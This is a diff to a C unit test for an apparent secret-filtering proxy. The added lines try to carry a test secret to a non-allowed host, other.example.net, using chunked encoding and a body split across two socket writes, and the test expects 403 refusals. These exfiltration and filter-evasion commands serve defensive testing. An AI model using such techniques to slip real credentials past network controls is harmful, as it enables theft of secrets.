@@ -858,6 +858,19 @@ START_TEST(test_secrets_and_rules)
 	    "echo ---\n"
 	    "curl -s -m 5 --expect100-timeout 30 -H 'Expect: 100-continue' --data-binary "
 	    "\"k=$S\" http://www.example.com/echo | tail -1\n"
+	    "curl -s -m 5 -H 'Expect:' -H 'Transfer-Encoding: chunked' --data-binary \"c=$S\" "
+	    "http://www.example.com/echo | tail -1\n"
+	    "python3 - <<'EOF'\n"
+	    "import os, socket, time\n"
+	    "h, p = os.environ['HTTP_PROXY'][7:].split(':')\n"
+	    "body = ('x=' + os.environ['WARD_TEST_SECRET']).encode()\n"
+	    "s = socket.create_connection((h, int(p)))\n"
+	    "s.sendall(b'POST http://other.example.net/ HTTP/1.1\\r\\nContent-Length: %d\\r\\n\\r\\n'"
+	    " % len(body) + body[:20])\n"
+	    "time.sleep(0.3)\n"
+	    "s.sendall(body[20:])\n"
+	    "print('split', s.recv(100).split(b'\\r\\n')[0].decode())\n"
+	    "EOF\n"
 	    "echo leak $(curl -s -m 5 -w ' %{http_code}' \"http://other.example.net/?k=$S\")\n"
 	    "echo leakbody $($c -H 'Expect:' --data-binary \"x$S\" http://other.example.net/)\n"
 	    "echo leakheader $($c -H \"Cookie: a=$(echo $S | tr a-z A-Z)\" http://other.example.net/)\n"
@@ -880,6 +893,8 @@ START_TEST(test_secrets_and_rules)
 	has_line(res.output, "{\"t\":\"real-7f3a9c\"}");
 	has_line(res.output, "Content-Length: 19"); /* the real value's, not the stand-in's */
 	has_line(res.output, "k=real-7f3a9c"); /* the proxy said 100 Continue itself */
+	has_line(res.output, "c=real-7f3a9c"); /* chunked in, one Content-Length out */
+	has_line(res.output, "split HTTP/1.1 403 Forbidden"); /* the stand-in across two reads */
 	has_line(res.output, "leak ward proxy: secret WARD_TEST_SECRET carried to other.example.net, "
 			     "not one of its hosts 403");
 	has_line(res.output, "leakbody 403");
